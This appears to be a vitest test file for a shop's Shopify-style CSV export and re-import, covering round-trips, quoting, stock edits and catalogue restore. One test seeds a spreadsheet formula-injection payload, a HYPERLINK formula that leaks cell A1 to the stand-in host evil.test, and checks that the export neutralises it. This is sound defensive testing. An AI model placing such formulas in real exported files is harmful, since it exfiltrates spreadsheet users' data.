import { Readable } from 'node:stream'
import { text } from 'node:stream/consumers'
import { type Backend, csvOf, openBackend, productRows } from '@tanabana/testing/backend.ts'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { shopifyCsv } from './catalogue.ts'

let shop: Backend
const where = { name: 'Test & shop', url: 'http://shop.test' }
beforeAll(async () => {
  shop = await openBackend()
  const kept = await shop.pictures.save(
    await sharp({ create: { width: 100, height: 125, channels: 3, background: '#a8262b' } })
      .png()
      .toBuffer(),
  )
  const rows = productRows('neel-kurta', 'Kurta', 1299.5, { 'Deep Blue': { M: 5, L: 0 }, Red: { M: 2 } })
  await shop.importCsv(
    csvOf(
      {
        ...rows[0],
        'Body (HTML)': '<p>Soft & <b>"light" </b></p><p><b></b>2 ** 3</p><p><strong>a</strong><b>b</b></p>',
        'Image Src': 'demo:drawn/blue',
        'Variant Image': 'demo:drawn/blue',
      },
      { ...rows[1], 'Image Src': 'demo:drawn/back' },
      {
        ...rows[2],
        'Image Src': `http://shop.test/pictures/${kept}?w=1200`,
        'Variant Image': `http://shop.test/pictures/${kept}?w=1200`,
      },
      ...productRows('bare-belt', 'Belt', 400, { Black: { 'One Size': 0 } }),
    ),
  )
})
afterAll(() => shop.close())

const whole = (chunks: AsyncGenerator<string>) => text(Readable.from(chunks))

test('changes nothing when an export is imported again', async () => {
  const csv = await whole(shopifyCsv(shop.database.db, where))
  expect(csv).toMatch(/^\ufeffHandle,/)
  expect(csv).toContain('<p>Soft &#38; <strong>&#34;light&#34; </strong></p>')
  const changed: unknown[] = []
  const report = await shop.importCsv(csv, { onProduct: (handle, { changes }) => void changed.push([handle, changes]) })
  expect(changed).toEqual([
    ['neel-kurta', []],
    ['bare-belt', []],
  ])
  expect(report).toMatchObject({ unchanged: 2, problems: [] })
})

test('quotes texts, so that a spreadsheet can tell them from numbers', async () => {
  const csv = await whole(shopifyCsv(shop.database.db, where))
  expect(csv).toMatch(/\n"neel-kurta",.*,"Size","M",,,5,0,1299\.5,/)
})

test('exports no text that a spreadsheet would run, and imports it unchanged', async () => {
  const [row] = productRows('formula-kurta', 'Kurta', 900, { Red: { M: 1 } })
  const title = '=HYPERLINK("https://evil.test?"&A1,"Open")'
  await shop.importCsv(csvOf({ ...row, Title: title, Vendor: '@SUM(1)', 'Variant SKU': 'A-1' }))
  await shop.database.db.execute(`update variants set sku = '+1+1' where sku = 'A-1'`)
  const csv = await whole(shopifyCsv(shop.database.db, where))
  expect(csv).not.toMatch(/(^|[,\n])"?[=@+]/)
  const changed: unknown[] = []
  await shop.importCsv(csv, { onProduct: (handle, { changes }) => void changed.push([handle, changes]) })
  expect(changed).toContainEqual(['formula-kurta', []])
  await shop.database.db.execute(`delete from products where handle = 'formula-kurta'`)
})

test('sets the quantity of an edited export, minus sales since the export', async () => {
  const stock = async () => {
    const { content } = await shop.call('getProductPaged', { query: { query: 'neel' } })
    return content[0]?.inventory.find(({ color }) => color === 'Deep Blue')?.stock
  }
  const sell = () =>
    shop.database.db.execute(`update variants set stock = stock - 1 where color = 'Deep Blue' and size = 'M'`)
  await sell()
  const csv = await whole(shopifyCsv(shop.database.db, where))
  expect(await shop.importCsv(csv)).toMatchObject({ unchanged: 2 })
  await sell()
  expect(await shop.importCsv(csv)).toMatchObject({ unchanged: 2 })
  expect(await stock()).toBe(3)
  const edited = csv.replace(/("Deep Blue","Size","M",[^,]*,[^,]*),4,1,/, '$1,9,1,')
  expect(await shop.importCsv(edited)).toMatchObject({ changed: 1 })
  expect(await shop.importCsv(edited)).toMatchObject({ unchanged: 2 })
  expect(await stock()).toBe(8)
})

test('restores the same catalogue in an empty shop', async () => {
  const other = await openBackend()
  const csv = (await whole(shopifyCsv(shop.database.db, where)))
    .replaceAll('http://shop.test/pictures/demo/', 'demo:')
    .replaceAll('?w=1200', '')
  await other.importCsv(csv)
  const list = async ({ call }: Backend) =>
    (await call('getProductPaged', { query: {} })).content.map(({ id: _, image: __, inventory, ...rest }) => ({
      ...rest,
      inventory: inventory.map(({ image: ___, ...entry }) => entry),
    }))
  expect(await list(other)).toEqual(await list(shop))
  await other.close()
})
